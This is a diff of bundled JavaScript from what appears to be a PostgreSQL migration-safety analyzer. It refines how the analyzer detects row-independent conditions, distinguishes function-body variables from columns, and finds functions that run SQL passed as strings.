 /* harmony export */   Pe: () => (/* binding */ namedClause),
 /* harmony export */   QD: () => (/* binding */ statementsNamed),
 /* harmony export */   S3: () => (/* binding */ roleName),
@@ -26463,8 +27408,7 @@ function safeDecode(s) {
 /* harmony export */   q: () => (/* binding */ sameName),
 /* harmony export */   rD: () => (/* binding */ alwaysTrueNsp),
 /* harmony export */   rF: () => (/* binding */ pgFunctionCalls),
-/* harmony export */   sp: () => (/* binding */ pgNode),
-/* harmony export */   ss: () => (/* binding */ mergeActionsOnEveryRow)
+/* harmony export */   sp: () => (/* binding */ pgNode)
 /* harmony export */ });
 /* unused harmony export astType */
 /* harmony import */ var _extract_position_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(4690);
@@ -26652,16 +27596,18 @@ function alwaysTrue(where) {
  * Does a condition refer to the target table (by alias or name)? Unqualified columns may belong to it
  * (PostgreSQL resolves them against every table in scope), so they count as a mention.
  */
-function mentionsTarget(where, relation) {
+function mentionsTarget(where, relation, isVariable) {
     const rv = relation?.RangeVar ?? relation;
     const names = new Set([rv?.alias?.aliasname, rv?.relname].filter(Boolean).map((x) => x.toLowerCase()));
+    // A bare name is a column of some table in scope, unless it is a variable of the enclosing body.
+    const target = (f) => (f.length < 2 ? !isVariable?.(f[0]) : names.has(f[f.length - 2]));
     let found = false;
     walk(where, (k, v) => {
         if (found)
             return false;
         if (k === 'ColumnRef') {
             const f = (v.fields ?? []).map((x) => x?.String?.sval?.toLowerCase() ?? '*');
-            if (f.length < 2 || names.has(f[f.length - 2]))
+            if (target(f))
                 found = true;
         }
         if (k === 'SubLink') {
@@ -26669,7 +27615,7 @@ function mentionsTarget(where, relation) {
             walk(v, (k2, v2) => {
                 if (k2 === 'ColumnRef') {
                     const f = (v2.fields ?? []).map((x) => x?.String?.sval?.toLowerCase() ?? '*');
-                    if (f.length < 2 || names.has(f[f.length - 2]))
+                    if (target(f))
                         found = true;
                 }
             });
@@ -26677,6 +27623,28 @@ function mentionsTarget(where, relation) {
         }
     });
     return found;
+}
+/**
+ * For a statement inside a function or DO body: is a bare name in its conditions a variable or
+ * parameter of the body rather than a column of `table`? PL/pgSQL: a name that is both is an error
+ * unless `#variable_conflict use_column` (then the column wins) or `use_variable` says otherwise
+ * (https://www.postgresql.org/docs/current/plpgsql-implementation.html#PLPGSQL-VAR-SUBST), so a
+ * variable's name is the variable. SQL functions: "the column name will take precedence"
+ * (https://www.postgresql.org/docs/current/xfunc-sql.html), so a parameter is one only where the
+ * table is known (`columns`) not to have such a column. A variable has one value per statement.
+ */
+function bodyVariable(stmt, table, columns) {
+    const v = stmt.nested?.variables;
+    if (!v?.names.length)
+        return undefined;
+    const names = new Set(v.names.map((n) => n.toLowerCase()));
+    if (!v.columnsWin)
+        return (n) => names.has(n.toLowerCase());
+    const cols = columns?.(table);
+    if (!cols)
+        return undefined;
+    const own = new Set(cols.map((c) => c.toLowerCase()));
+    return (n) => names.has(n.toLowerCase()) && !own.has(n.toLowerCase());
 }
 /** Functions whose value cannot change from one row to the next within a statement (stable or immutable, PostgreSQL's pg_proc.provolatile 's'/'i'). */
 const ROW_STABLE_FUNCTIONS = new Set(['now', 'current_setting', 'current_database', 'current_schema', 'version', 'transaction_timestamp', 'statement_timestamp', 'length', 'char_length', 'lower', 'upper', 'to_date', 'to_timestamp', 'date_trunc', 'age', 'abs']);
@@ -26689,9 +27657,9 @@ const ROW_STABLE_FUNCTIONS = new Set(['now', 'current_setting', 'current_databas
  * `WHERE now() > '2000-01-01'`: every row goes whenever it holds. A bind parameter (`$1`, a PL/pgSQL
  * variable, `EXECUTE … USING true`) has one value for the whole statement: `WHERE $1` is one too.
  */
-function rowIndependent(where, relation) {
+function rowIndependent(where, relation, isVariable) {
     // Known to be false or NULL (`WHERE 1 = 0`): no row ever; known true is alwaysTrue's.
-    if (!where || mentionsTarget(where, relation) || (0,_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .truthOf */ .D)((0,_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .pgValue */ .ho)(where)) !== undefined)
+    if (!where || mentionsTarget(where, relation, isVariable) || (0,_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .truthOf */ .D)((0,_fold_js__WEBPACK_IMPORTED_MODULE_0__/* .pgValue */ .ho)(where)) !== undefined)
         return false;
     let varies = false;
     walk(where, (k, v) => {
@@ -26827,36 +27795,22 @@ function rowIndependentNsp(where, targets) {
     return !found;
 }
 /**
- * MERGE actions of one command type (`CMD_DELETE`, `CMD_UPDATE`) that reach every row of the target
- * (PostgreSQL 15+; `WHEN NOT MATCHED BY SOURCE` 17+): a WHEN MATCHED action whose join condition and
- * own condition select no row of the target by its columns (`ON true`, `ON s.x = 1`), and a WHEN NOT
- * MATCHED BY SOURCE action without such a condition (every target row the source lacks: all of them
- * when the source is empty). Walks the statement's tree (CTEs too), not function bodies.
+ * Every node of one type in a statement's tree: the statement itself, and the ones in CTEs and rule
+ * actions; not inside function bodies (parsed and analyzed as statements of their own).
  */
-function mergeActionsOnEveryRow(stmt, command) {
-    const merges = [];
-    if (stmt.pg?.MergeStmt)
-        merges.push(stmt.pg.MergeStmt);
-    if (hasNode(stmt.pg, 'MergeStmt'))
-        walk(stmt.pg, (k, v) => {
-            if (k === 'sql_body' || k === 'CreateFunctionStmt')
-                return false;
-            if (k === 'MergeStmt' && v !== stmt.pg?.MergeStmt)
-                merges.push(v);
-        });
-    const selects = (cond, rel) => !!cond && !alwaysTrue(cond) && mentionsTarget(cond, rel);
+function nodesOf(stmt, type) {
     const out = [];
-    for (const m of merges) {
-        for (const c of m.mergeWhenClauses ?? []) {
-            const w = c?.MergeWhenClause;
-            if (w?.commandType !== command || selects(w.condition, m.relation))
-                continue;
-            if (w.matchKind === 'MERGE_WHEN_NOT_MATCHED_BY_SOURCE')
-                out.push({ merge: m, clause: w, how: 'MERGE … WHEN NOT MATCHED BY SOURCE without a condition on the target: every row the source does not match, all of them when the source is empty' });
-            else if (w.matchKind === 'MERGE_WHEN_MATCHED' && !selects(m.joinCondition, m.relation))
-                out.push({ merge: m, clause: w, how: 'MERGE … WHEN MATCHED whose join condition does not select rows of the target by its columns' });
-        }
-    }
+    const top = stmt.pg?.[type];
+    if (top)
+        out.push(top);
+    if (!hasNode(stmt.pg, type))
+        return out;
+    walk(stmt.pg, (k, v) => {
+        if (k === 'sql_body' || k === 'CreateFunctionStmt')
+            return false;
+        if (k === type && v !== top)
+            out.push(v);
+    });
     return out;
 }
 /** node-sql-parser: the statement type ('drop', 'alter', 'grant', …) lower-cased. */
@@ -26873,6 +27827,8 @@ function nestedSuffix(stmt) {
         return ' (inside a DO block)';
     if (stmt.nested.kind === 'cron')
         return ` (inside pg_cron job ${stmt.nested.name ?? '?'}; runs on its schedule)`;
+    if (stmt.nested.kind === 'query')
+        return ` (SQL string run by ${stmt.nested.name ?? '?'}())`;
     if (stmt.nested.kind === 'trigger')
         return ` (inside trigger ${stmt.nested.name ?? '?'}; runs on every row event it fires on)`;
     if (stmt.nested.kind === 'procedure' || stmt.nested.kind === 'event')
@@ -27173,6 +28129,8 @@ function inside(stmt) {
         return ' inside a DO block';
     if (stmt.nested.kind === 'cron')
         return ` inside pg_cron job ${stmt.nested.name ?? '?'} (runs on its schedule)`;
+    if (stmt.nested.kind === 'query')
+        return ` in the SQL string run by ${stmt.nested.name ?? '?'}()`;
     if (stmt.nested.kind !== 'function')
         return ` inside ${stmt.nested.kind} ${stmt.nested.name ?? '?'} (runs whenever it fires or is called)`;
     return ` inside function ${stmt.nested.name ?? '?'} (runs whenever it is called)`;
@@ -27555,6 +28513,10 @@ function pgValue(n, depth = 0) {
     }
     if (n.NullTest) {
         const v = pgValue(n.NullTest.arg, d);
+        // current_user, session_user, current_date, now()-like SQL value functions are never NULL
+        // (current_schema is NULL with an empty search_path): `current_user IS NOT NULL` is always true.
+        if (v === undefined && NEVER_NULL_SVF.has(n.NullTest.arg?.SQLValueFunction?.op))
+            return n.NullTest.nulltesttype === 'IS_NOT_NULL';
         if (v === undefined)
             return undefined;
         return n.NullTest.nulltesttype === 'IS_NOT_NULL' ? v !== null : v === null;
@@ -27631,6 +28593,12 @@ function existsFromless(s) {
         return undefined;
     return true;
 }
+/** SQLValueFunction ops whose value is never NULL (src/backend/utils/adt: the role names, the clock, the database name). */
+const NEVER_NULL_SVF = new Set([
+    'SVFOP_CURRENT_DATE', 'SVFOP_CURRENT_TIME', 'SVFOP_CURRENT_TIME_N', 'SVFOP_CURRENT_TIMESTAMP', 'SVFOP_CURRENT_TIMESTAMP_N',
+    'SVFOP_LOCALTIME', 'SVFOP_LOCALTIME_N', 'SVFOP_LOCALTIMESTAMP', 'SVFOP_LOCALTIMESTAMP_N',
+    'SVFOP_CURRENT_ROLE', 'SVFOP_CURRENT_USER', 'SVFOP_USER', 'SVFOP_SESSION_USER', 'SVFOP_CURRENT_CATALOG',
+]);
 function volatile(n) {
     // random(), nextval(), … compared with themselves are not equal: only plain expressions count.
     // Parameters ($1, ?) too: bind placeholders are neutralized to the same text whatever they hold.
@@ -27968,6 +28936,80 @@ const UNICODE_ESCAPES = /\bu&["']/i;
 
 /***/ }),
 
+/***/ 2567:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   B: () => (/* binding */ sqlStringCalls),
+/* harmony export */   d: () => (/* binding */ SQL_STRING_FUNCTIONS_RE)
+/* harmony export */ });
+// Functions that run SQL handed to them as a string. The SQL is as much the migration's as any
+// statement it writes out: a constant string is parsed and analyzed where the call is
+// (src/parse/pg.ts expandSqlStrings); a string built at run time cannot be checked (dynamic-sql).
+// PostgreSQL and its contrib modules run these through SPI:
+//   query_to_xml, query_to_xmlschema, query_to_xml_and_xmlschema (query text, …)   functions-xml.html
+//   ts_stat(sqlquery text, …)                                                        textsearch-features.html
+//   ts_rewrite(query tsquery, select text)                                           textsearch-features.html
+//   crosstab(source_sql text[, category_sql text]), crosstabN(source_sql text)       tablefunc.html
+//   dblink / dblink_exec / dblink_open / dblink_send_query ([conn,] sql …)            dblink.html (a loopback
+//     connection, `dbname=` || current_database(), writes to this database)
+//   pg_background_launch(sql text, …)                                                github.com/vibhorkum/pg_background
+/** Which arguments of a call are SQL (by position; `n` is the number of arguments given). */
+const SQL_ARGS = {
+    query_to_xml: () => [0],
+    query_to_xmlschema: () => [0],
+    query_to_xml_and_xmlschema: () => [0],
+    ts_stat: () => [0],
+    ts_rewrite: (n) => (n === 2 ? [1] : []),
+    crosstab: (n) => (n >= 2 ? [0, 1] : [0]),
+    crosstab2: () => [0],
+    crosstab3: () => [0],
+    crosstab4: () => [0],
+    // dblink(sql) uses the unnamed connection; dblink(conn, sql[, fail_on_error]).
+    dblink: (n) => (n === 1 ? [0] : [1]),
+    dblink_exec: (n) => (n === 1 ? [0] : [1]),
+    // dblink_open([conn,] cursor, sql[, fail_on_error]): the SQL follows the cursor name.
+    dblink_open: (n) => (n === 2 ? [1] : [2]),
+    dblink_send_query: () => [1],
+    pg_background_launch: () => [0],
+    pg_background_launch_v2: () => [0],
+};
+/** A cheap test of a statement's text before its tree is walked. */
+const SQL_STRING_FUNCTIONS_RE = /query_to_xml|ts_stat|ts_rewrite|crosstab|dblink|pg_background/i;
+/** Calls in a libpg-query tree (not inside function bodies, parsed on their own) whose argument is SQL: the function and the argument node. */
+function sqlStringCalls(node) {
+    const out = [];
+    const visit = (n) => {
+        if (Array.isArray(n))
+            return n.forEach(visit);
+        if (!n || typeof n !== 'object')
+            return;
+        if (n.CreateFunctionStmt || n.DoStmt)
+            return;
+        const f = n.FuncCall;
+        if (f) {
+            const parts = (f.funcname ?? []).map((x) => String(x?.String?.sval ?? ''));
+            const fn = parts[parts.length - 1]?.toLowerCase();
+            const which = fn !== undefined && Object.hasOwn(SQL_ARGS, fn) ? SQL_ARGS[fn] : undefined;
+            const args = (f.args ?? []).map((a) => a?.NamedArgExpr?.arg ?? a);
+            if (which)
+                for (const i of which(args.length))
+                    if (args[i] !== undefined)
+                        out.push({ fn, arg: args[i], location: f.location });
+        }
+        for (const k in n) {
+            const v = n[k];
+            if (v && typeof v === 'object')
+                visit(v);
+        }
+    };
+    visit(node);
+    return out;
+}
+
+
+/***/ }),
+
 /***/ 2341:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
@@ -27977,6 +29019,7 @@ const UNICODE_ESCAPES = /\bu&["']/i;
 /* harmony export */   L4: () => (/* binding */ stateOf),
 /* harmony export */   dD: () => (/* binding */ isNewColumn),
 /* harmony export */   k8: () => (/* binding */ runsOn),
+/* harmony export */   tP: () => (/* binding */ insertColumns),
 /* harmony export */   wE: () => (/* binding */ beforeRollback),
 /* harmony export */   yd: () => (/* binding */ lockNote)
 /* harmony export */ });
@@ -28025,6 +29068,16 @@ function isNew(stmt, name) {
 /** Was the column added by the migration under review (so no existing value is in it)? */
 function isNewColumn(stmt, table, column) {
     return stateOf(stmt)?.column(stmt, table, column) === 'new';
+}
+/**
+ * The columns an INSERT's values go into: its column list, else (`INSERT INTO t VALUES (…)`) the
+ * table's columns in order as the schema state knows them, when every row has that many values.
+ */
+function insertColumns(stmt, table, listed, rows) {
+    if (listed.length)
+        return listed;
+    const cols = stateOf(stmt)?.columns(stmt, table);
+    return cols?.length && rows.length && rows.every((r) => r.length === cols.length) ? cols : [];
 }
 /** ' (replayed: takes ShareLock on public.users)' — the locks the sandbox saw this statement take on `table`, for safety messages. */
 function lockNote(stmt, table) {
